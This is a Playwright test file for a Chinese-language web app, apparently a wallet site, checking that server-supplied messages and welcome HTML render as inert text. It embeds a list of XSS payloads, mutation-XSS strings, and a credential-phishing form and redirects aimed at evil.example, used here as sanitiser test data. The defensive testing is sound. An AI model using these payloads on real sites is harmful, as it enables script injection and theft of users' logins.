import { DEMO } from '#house/scenarios/personas.ts'
import { goTo, logIn, pathOf, toast } from './journeys/entry.ts'
import { header } from './journeys/home.ts'
import { fillTransfer, transferButton } from './journeys/wallet.ts'
import { expect, test } from './support/test.ts'

const ATTACK = '<img src=x onerror=__pwn=1><b>维护</b>'

test('a closed site shows what the operator says, as text, and opens again', {
  tag: '@both',
}, async ({ app, page }) => {
  await app.open({ scenario: 'maintenance', params: { tips: ATTACK }, as: DEMO, path: '/mine' })
  await expect(page.getByRole('heading', { name: '系统维护中' })).toBeVisible()
  // In the page; a call that was refused on the way may say the same in a toast.
  await expect(page.getByRole('paragraph').filter({ hasText: ATTACK })).toBeVisible()
  await expect(page.getByRole('navigation')).toHaveCount(0)

  await app.house.site({ settings: { open: true } })
  await page.getByRole('button', { name: '再试一次' }).click()
  await expect(page.getByRole('heading', { name: DEMO.username })).toBeVisible()
  expect(pathOf(page)).toBe('/mine')
})

test('a site that closes while a member moves money refuses with its text', {
  tag: '@both',
}, async ({ app, page }) => {
  await app.open({ scenario: 'member-with-money', as: DEMO, path: '/transfer' })
  await fillTransfer(page, '云舟电子', '100')
  await app.house.site({ settings: { open: false, repairTips: ATTACK } })
  await transferButton(page).click()
  await expect(toast(page)).toHaveText(ATTACK)
  const { members } = await app.house.read()
  expect(members[0]).toMatchObject({ central: 100_000 })
})

const message = '<img src=x onerror=__pwn=1><script>__pwn=1</script>余额&amp;不足'
const refusal = { kind: 'refuse', code: 202, message } as const

test('what the server says is shown literally', { tag: '@both' }, async ({ app, page }) => {
  await app.open({ scenario: 'member-with-money', path: '/login' })
  await app.house.faults({ add: [{ endpoint: '/api/login', ...refusal, times: 1 }] })
  await logIn(page, DEMO)
  await expect(toast(page)).toHaveText(message)
  await logIn(page, DEMO)
  await expect(header(page)).toBeVisible()
  await app.house.faults({ add: [{ endpoint: '/api/transall', ...refusal, times: 1 }] })
  // From the home page the way leads through the welcome; the header of another route has the button too.
  await goTo(page, '/kefu')
  await header(page).getByRole('button', { name: '一键回收' }).click()
  await expect(toast(page)).toHaveText(message)
  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
})

test('names, notices and titles of the server are text', { tag: '@both' }, async ({ app, page }) => {
  await app.open({ scenario: 'visitor', path: '/kefu' })
  const text = '<img src=x onerror=__pwn=1>云舟'
  await app.house.site({ settings: { title: text, welcomeModal: false } })
  await page.reload()
  await expect(header(page).getByText(text)).toBeVisible()
  await app.house.faults({
    add: [
      { endpoint: '/api/homenotice', kind: 'patch', fields: { data: [text, '<script>__pwn=1</script>'] } },
    ],
  })
  await goTo(page, '/')
  await page.getByRole('button', { name: '查看公告' }).click()
  const dialog = page.getByRole('dialog', { name: '公告' })
  await expect(dialog.getByText(text)).toBeVisible()
  await expect(dialog.getByText('<script>__pwn=1</script>')).toBeVisible()
  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
})

/** A sample of cases T1 and T2: scripts, handlers, forms for phishing, covers, clobbering, trackers, mutation. */
const SINKS = [
  '<p>好好的字</p>',
  '<script>__pwn=1</script>',
  '<img src=x onerror=__pwn=1>',
  '<svg onload=__pwn=1><animate onbegin=__pwn=1 attributeName=x dur=1s></svg>',
  '<a href="javascript:__pwn=1">a</a>',
  '<a href="data:text/html,<script>__pwn=1</script>">b</a>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999">盖住</div>',
  '<div id="root" name="body">x</div>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=__pwn=1>"></noscript>',
  '<video><source onerror=__pwn=1></video><audio src=x onerror=__pwn=1>',
  '<details open ontoggle=__pwn=1>d</details><marquee onstart=__pwn=1>m</marquee>',
  '<template><img src=x onerror=__pwn=1></template><object data="javascript:__pwn=1"></object>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
].join('\n')

const FORBIDDEN =
  'form,input,button,textarea,select,iframe,script,style,link,meta,base,object,embed,svg,math,video,audio,[id],[name],[style]'

test.describe('with the policy out of the way, so that the sanitiser stands alone', () => {
  // Chromium reports each handler in HTML that is only parsed, in any inert document, as a violation.
  test.use({ bypassCSP: true })

  test('the welcome shows the words of its HTML and runs none of it', async ({ app, page }) => {
    await app.open({ scenario: 'visitor', path: '/kefu' })
    await app.house.site({ settings: { webcontent: SINKS } })
    await page.reload()
    await goTo(page, '/')
    const welcome = page.getByRole('dialog', { name: '温馨提示' })
    await expect(welcome.getByText('好好的字')).toBeVisible()
    const words = welcome.locator('.server-html')
    await expect(words.locator(FORBIDDEN)).toHaveCount(0)
    const odd = await words.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => name.startsWith('on') || /^\s*(javascript|data):/i.test(value))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    )
    expect(odd).toEqual([])
    for (const link of await words.getByRole('link').all()) {
      await expect(link).toHaveAttribute('rel', /noopener/)
    }
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    expect(pathOf(page)).toBe('/')
  })
})

test('no service worker is registered', async ({ app, page }) => {
  await app.open()
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0)
})
